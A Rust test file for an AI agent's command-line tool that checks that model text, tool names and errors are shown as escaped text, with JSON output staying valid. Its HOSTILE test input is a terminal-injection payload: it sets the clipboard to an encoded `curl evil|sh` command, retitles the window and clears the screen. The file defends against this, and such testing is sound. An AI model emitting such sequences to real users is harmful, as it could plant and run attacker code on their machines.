//! What reaches a person's terminal through the real binary: text, never commands
//! (a model's answer, its partial text, tool names and arguments in the progress
//! lines, and error messages, on stdout and stderr, with `--json` still valid
//! JSON); and the permission question on a real terminal (a pseudo-terminal): every
//! line shown before the answer, where a path leads, `replace_all`, and keys typed
//! before the question answer nothing.

use serde_json::{Value, json};

use crate::cli::{run_on, text};
use crate::support::mock_llm::{
    MockLlm, Reply, ev_finish, ev_role, ev_text, ev_tool_args, ev_tool_start, ev_usage,
};

mod pty;

/// What a hostile model writes: OSC 52 sets the clipboard (to `curl evil|sh`), OSC 0
/// retitles the window, CSI 2J and CSI H clear the screen and move the cursor home,
/// and the same CSI as one C1 character colors what follows.
const HOSTILE: &str = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;pwned\x07\x1b[2J\x1b[H\u{9b}31m";

/// [`HOSTILE`] as the terminal shows it.
const SHOWN: &str =
    "\\u{1b}]52;c;Y3VybCBldmlsfHNo\\u{7}\\u{1b}]0;pwned\\u{7}\\u{1b}[2J\\u{1b}[H\\u{9b}31m";

/// The first control character (C0 but line breaks and tabs, DEL, C1) in `bytes`.
fn first_control(bytes: &[u8]) -> Option<(usize, char)> {
    String::from_utf8_lossy(bytes)
        .char_indices()
        .find(|(_, c)| c.is_control() && !matches!(c, '\n' | '\t'))
}

/// A model turn with text and two calls: a Glob whose pattern and a tool whose
/// name carry [`HOSTILE`].
fn hostile_turn() -> Reply {
    let pattern = json!({ "pattern": format!("*.rs{HOSTILE}") }).to_string();
    Reply::stream(vec![
        ev_role(),
        ev_text(format!("Working.{HOSTILE}")),
        ev_tool_start(0, "g1", "Glob"),
        ev_tool_args(0, pattern),
        ev_tool_start(1, "x1", format!("Nope{HOSTILE}")),
        ev_tool_args(1, "{}"),
        ev_finish("tool_calls"),
        ev_usage(10, 5),
    ])
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_final_answer_reaches_the_terminal_as_text() {
    let mock = MockLlm::start(vec![Reply::text(format!("Done.{HOSTILE}\nBye."))]).await;
    let dir = tempfile::tempdir().unwrap();
    let out = run_on(&mock, dir.path(), &["say hello"], &[]).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), format!("Done.{SHOWN}\nBye.\n"));
    assert_eq!(first_control(&out.stderr), None, "{}", text(&out.stderr));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn progress_lines_partial_text_and_errors_reach_the_terminal_as_text() {
    let mock = MockLlm::start(vec![
        hostile_turn(),
        Reply::status(400, format!("bad request{HOSTILE}")),
    ])
    .await;
    let dir = tempfile::tempdir().unwrap();
    let out = run_on(&mock, dir.path(), &["find the code"], &[]).await;
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert_eq!(first_control(&out.stdout), None, "{stdout}");
    assert_eq!(first_control(&out.stderr), None, "{stderr}");
    // The partial answer on stdout; the progress lines and the error on stderr.
    assert_eq!(stdout, format!("Working.{SHOWN}\n"));
    // The two calls run at once: which fails first varies.
    let mut lines: Vec<&str> = stderr
        .lines()
        .map(|l| l.split_once("] ").map_or(l, |(_, rest)| rest))
        .collect();
    lines.sort_unstable();
    let mut expected = [
        "orchestrator: started".to_owned(),
        // Clipped to 40 characters, then escaped.
        r"orchestrator: Glob *.rs\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}]0;pwned\u{7}\u{1b}…"
            .to_owned(),
        format!("orchestrator: Nope{SHOWN}"),
        "orchestrator: Glob failed".to_owned(),
        format!("orchestrator: Nope{SHOWN} failed"),
        // The lead's reason is said once, on the last line.
        "orchestrator: failed".to_owned(),
        format!("orchestrate: HTTP 400: bad request{SHOWN}"),
    ];
    expected.sort_unstable();
    assert_eq!(lines, expected);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn json_output_stays_valid_json_with_the_model_text_unchanged() {
    let mock = MockLlm::start(vec![hostile_turn(), Reply::text(format!("Done.{HOSTILE}"))]).await;
    let dir = tempfile::tempdir().unwrap();
    let out = run_on(&mock, dir.path(), &["--json", "find the code"], &[]).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(first_control(&out.stdout), None, "{}", text(&out.stdout));
    let events: Vec<Value> = text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let of = |kind: &'static str| events.iter().filter(move |e| e["type"] == kind);
    let names: Vec<&Value> = of("tool_started").map(|e| &e["name"]).collect();
    assert_eq!(names, [&json!("Glob"), &json!(format!("Nope{HOSTILE}"))]);
    let terminal: Vec<&Value> = of("terminal").map(|e| &e["text"]).collect();
    assert_eq!(terminal, [&json!(format!("Done.{HOSTILE}"))]);
}
